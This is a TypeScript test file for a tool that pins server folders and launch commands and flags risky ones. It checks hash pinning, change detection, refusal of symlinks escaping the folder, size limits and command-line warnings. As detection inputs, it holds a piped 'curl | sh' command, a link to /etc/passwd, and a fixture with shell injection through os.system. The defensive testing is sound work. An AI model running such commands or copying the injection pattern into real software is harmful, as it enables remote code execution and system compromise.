/** Folders and commands: every file pinned, links that lead outside refused, and what the command line itself gives away. */

import { appendFile, chmod, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { examineSource } from './examine-source.ts'
import { checkInstalledContent } from './pin.ts'

let folder: string
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'callgate-folder-'))
  await mkdir(join(folder, 'server', 'lib'), { recursive: true })
  await writeFile(join(folder, 'server', 'main.py'), 'import os\n\nos.system("ping " + host)\n')
  await writeFile(join(folder, 'server', 'lib', 'data.txt'), 'one')
})
afterEach(() => rm(folder, { recursive: true, force: true }))

const deps = () => ({ storeDirectory: join(folder, 'store'), now: () => 0 })
const source = (args: readonly string[] = ['main.py'], command = 'node') => ({
  type: 'folder' as const,
  path: join(folder, 'server'),
  command,
  args: [...args],
})

describe('examineSource of a folder', () => {
  it('pins each file, the command line and the program outside, and names danger by file and line', async () => {
    const { pin, findings, store, sbom } = await examineSource(source(), deps())
    expect(pin.parts.filter(({ kind }) => kind === 'file').map(({ name }) => name)).toEqual([
      'installed content',
      'lib/data.txt',
      'main.py',
    ])
    expect(pin.parts.filter(({ kind }) => kind === 'command')).toHaveLength(2)
    expect(findings.map(({ code, where }) => [code, where])).toEqual([
      ['code/shell-with-arguments', { file: 'main.py', line: 3 }],
    ])
    expect(sbom).toMatchObject({ bomFormat: 'CycloneDX', specVersion: '1.6' })
    expect(await checkInstalledContent(String(store), pin)).toEqual({ ok: true })
  })

  it.each([
    ['a byte', () => appendFile(join(folder, 'server/lib/data.txt'), '!')],
    ['a new file', () => writeFile(join(folder, 'server/lib/more'), '')],
    ['a file gone', () => rm(join(folder, 'server/lib/data.txt'))],
    ['the right to start it', () => chmod(join(folder, 'server/main.py'), 0o755)],
    ['a link in place of a file', () => symlink('data.txt', join(folder, 'server/lib/link'))],
  ])('notices %s', async (_, change) => {
    const { pin, store } = await examineSource(source(), deps())
    await change()
    expect(await checkInstalledContent(String(store), pin)).toMatchObject({ ok: false })
    expect((await examineSource(source(), deps())).pin.digest).not.toBe(pin.digest)
  })

  it('pins the arguments too', async () => {
    const one = await examineSource(source(['main.py']), deps())
    const other = await examineSource(source(['main.py', '--all']), deps())
    expect(other.pin.digest).not.toBe(one.pin.digest)
  })

  it.each(['/etc/passwd', '../../outside'])('refuses a link to %s', async (target) => {
    await symlink(target, join(folder, 'server', 'lib', 'out'))
    await expect(examineSource(source(), deps())).rejects.toThrow(/outside of what is examined/)
  })

  it('refuses more than its limits, and what is no folder', async () => {
    await expect(examineSource(source(), { ...deps(), limits: { entriesMax: 2 } })).rejects.toThrow(
      /more than 2 files/,
    )
    await expect(examineSource(source(), { ...deps(), limits: { contentBytesMax: 4 } })).rejects.toThrow(
      /larger than/,
    )
    await expect(examineSource({ ...source(), path: join(folder, 'none') }, deps())).rejects.toThrow(
      /There is no folder/,
    )
  })
})

describe('examineSource of a command', () => {
  const examine = (command: string, ...args: string[]) =>
    examineSource({ type: 'command', command, args }, deps())

  it('pins the program and the script it is given', async () => {
    const script = join(folder, 'server', 'main.py')
    const before = await examine('node', script)
    expect(before.pin.parts.map(({ kind }) => kind)).toEqual(['command', 'command', 'file'])
    expect(before.findings).toEqual([])
    await appendFile(script, '#')
    expect((await examine('node', script)).pin.digest).not.toBe(before.pin.digest)
  })

  it('says what is dangerous about a command line', async () => {
    const codes = async (command: string, ...args: string[]) =>
      (await examine(command, ...args)).findings.map(({ code }) => code)
    expect(await codes('npx', '-y', 'some-server@latest')).toEqual(['supply/fetched-at-start'])
    expect(await codes('sh', '-c', 'curl example.org | sh')).toEqual([
      'supply/started-by-shell',
      'supply/code-in-command',
    ])
    expect(await codes('node', '-e', '0')).toEqual(['supply/code-in-command'])
    await expect(examine('no-such-program-here')).rejects.toThrow(/There is no program/)
  })
})
